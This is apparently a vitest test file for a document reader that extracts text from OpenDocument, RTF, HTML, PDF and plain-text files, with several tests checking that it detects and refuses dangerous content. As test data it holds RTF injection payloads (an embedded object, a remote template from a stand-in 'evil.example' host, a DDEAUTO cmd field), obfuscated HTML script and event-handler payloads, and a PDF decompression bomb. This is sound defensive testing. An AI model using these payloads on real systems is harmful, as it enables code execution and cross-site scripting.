import { expect, test } from 'vitest'
import { sniff } from '../../files/sniff.ts'
import { makeOdp, makeOds } from '../fixtures/make-office.ts'
import { makePdf, makePdfBomb } from '../fixtures/make-pdf.ts'
import { readInWorker } from '../run-worker.ts'
import { findFault, readDocument } from './read-document.ts'

async function read(bytes: Buffer, name: string) {
  const kind = await sniff(bytes, name)
  expect(kind, name).not.toBeNull()
  expect(await findFault(bytes, kind!.mime), name).toBeNull()
  const { parts, ...rest } = await readDocument(bytes, kind!.mime)
  return { ...rest, said: parts.map(({ kind: what, number, heading, text }) => [what, number, heading, text]) }
}
const asked = (checks: { asks: string; ok: boolean; missing: number }[]) => Object.fromEntries(checks.map(({ asks, ok, missing }) => [asks, ok ? 'ok' : missing || 'bad']))

test('an OpenDocument presentation is read by its slides, with their notes', async () => {
  const { said, pages, checks } = await read(makeOdp([{ title: 'Äidinkieli & čálli', text: 'Tervetuloa' }, { title: '', text: 'Kahvitauko', notes: 'Muista maito' }]), 'a.odp')
  expect(said).toEqual([['slide', 1, 'Äidinkieli & čálli', 'Tervetuloa'], ['slide', 2, '', 'Kahvitauko\nMuista maito']])
  expect([pages, asked(checks)]).toEqual([2, { title: 'bad', headings: 1, alt: 'ok' }])
})

test('an OpenDocument spreadsheet is read by its sheets, a line for each row', async () => {
  const { said, pages } = await read(makeOds([{ name: 'Maksut', rows: [['Kortti', '3 €'], ['Kopio', '1 €']] }, { name: 'Tyhjä', rows: [] }]), 'a.ods')
  expect(said).toEqual([['sheet', 1, 'Maksut', 'Kortti – 3 €\nKopio – 1 €'], ['sheet', 2, 'Tyhjä', '']])
  expect(pages).toBe(2)
})

test('an OpenDocument file with a password is known by its list of contents', async () => {
  const locked = makeOds([], [{ name: 'META-INF/manifest.xml', bytes: Buffer.from('<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>') }])
  expect(await findFault(locked, 'application/vnd.oasis.opendocument.spreadsheet')).toBe('password')
})

test('rich text is read with the letters of its code page and of Unicode, without what it hides', async () => {
  const rtf = String.raw`{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Arial;}}{\*\generator Ohjelma;}{\info{\title Ohje}{\author Salainen}}\uc1 Kirjastokortti maksaa k\'e4yt\'f6n j\'e4lkeen.\par Girjer\u225?dju lea \u269?\'e1lli \u331?\par\trowd Nimi\cell Hinta\cell\row{\header Yl\'e4tunniste}{\b Lihava} \{aalto\}{\pict\pngblip 89504e47}}`
  const { said, checks } = await read(Buffer.from(rtf, 'latin1'), 'a.rtf')
  expect(said).toEqual([['part', 1, '', 'Kirjastokortti maksaa käytön jälkeen.\nGirjerádju lea čálli ŋ\nNimi – Hinta –\nLihava {aalto}']])
  expect(asked(checks)).toEqual({ title: 'ok', alt: 1 })
})

test('rich text that would start another program is refused', async () => {
  const rtf = (inside: string) => Buffer.from(`{\\rtf1\\ansi ${inside}}`)
  expect(await findFault(rtf('Teksti'), 'application/rtf')).toBeNull()
  for (const inside of ['{\\object\\objemb{\\*\\objdata 0105}}', '{\\*\\template http://evil.example/a.dot}', '{\\field{\\*\\fldinst DDEAUTO cmd}}']) expect(await findFault(rtf(inside), 'application/rtf'), inside).toBe('active')
})

test('a page of HTML is read under its headings, without scripts, styles and comments', async () => {
  const html = '<!doctype html>\n<html lang="fi"><head><title>Ohje</title><style>b{}</style></head><body><p>Alku &amp; <b>lop</b>pu<br>rivi</p><!-- salaisuus --><h2>Y&ouml;aukiolo <i>nyt</i></h2><p>1 < 2. Ovi<img src="a" alt="punainen ovi"></p><table><tr><td>Kortti</td><td>3</td></tr></table><img src=b></body></html>'
  const { said, checks } = await read(Buffer.from(html), 'a.htm')
  expect(said).toEqual([['part', 1, '', 'Alku & loppu\nrivi'], ['part', 2, 'Yöaukiolo nyt', '1 < 2. Ovi punainen ovi\nKortti – 3']])
  expect(asked(checks)).toEqual({ title: 'ok', language: 'ok', headings: 'ok', alt: 1 })
})

test('U-6: HTML that a browser would run, send or fetch with is refused', async () => {
  expect(await findFault(Buffer.from('<p title="tilaa online = heti">Teksti <a href="https://a.fi">x</a></p>'), 'text/html')).toBeNull()
  for (const html of ['<ScRipt>1</script>', '<img src=x onerror=alert(1)>', '<img/onload="a()">', '<a href="jav&#x61;script:a()">', '<a href=java\tscript:a()>', '<iframe src=a>', '<svg/onload=a()>', '<form action=a>', '<meta http-equiv="refresh" content="0">', '<base href=//a>', '<object data=a>', '<a href="&#106;avascript:a">'])
    expect(await findFault(Buffer.from(html), 'text/html'), html).toBe('active')
})

test('a text that never ends its tags or groups is read in a moment', async () => {
  for (const [bytes, mime] of [['<'.repeat(400_000), 'text/html'], ['<p '.repeat(200_000), 'text/html'], ['<head>'.repeat(100_000), 'text/html'], ['{\\rtf1 ' + '{'.repeat(400_000), 'application/rtf'], ['{\\rtf1 ' + '\\u1'.repeat(200_000), 'application/rtf']] as const)
    expect((await readDocument(Buffer.from(bytes), mime)).parts.length).toBeLessThan(5)
})

test('R21, U-4: of a PDF whose page unpacks to more than it may, only its own thread ends; the next file is read', async () => {
  await expect(readInWorker(makePdfBomb(800), 'application/pdf')).rejects.toThrow('out of memory')
  expect((await readInWorker(makePdf(['Seuraava']), 'application/pdf')).parts.map(({ text }) => text)).toEqual(['Seuraava'])
})

test('a text of nearly all line ends or short lines is read within the memory of its thread: what stands after the blank lines is there', async () => {
  const room = 12_000_000
  for (const [filling, mime] of [['\n', 'text/plain'], ['\t\r\n', 'text/csv']] as const)
    expect((await readInWorker(Buffer.concat([Buffer.from('Alku\n'), Buffer.alloc(room, filling), Buffer.from('\nloppu')]), mime)).parts.map(({ text }) => text), JSON.stringify(filling)).toEqual(['Alku\nloppu'])
  const { parts: [part] } = await readInWorker(Buffer.alloc(room, 'a\n'), 'text/plain')
  expect([part!.text.slice(0, 5), part!.text.length]).toEqual(['a\na\na', 1_999_999])
  expect((await readDocument(Buffer.from(`# Otsikko\n#${' '.repeat(400_000)}${'x'.repeat(500)}`), 'text/markdown')).parts.map(({ heading }) => heading)).toEqual(['Otsikko'])
})
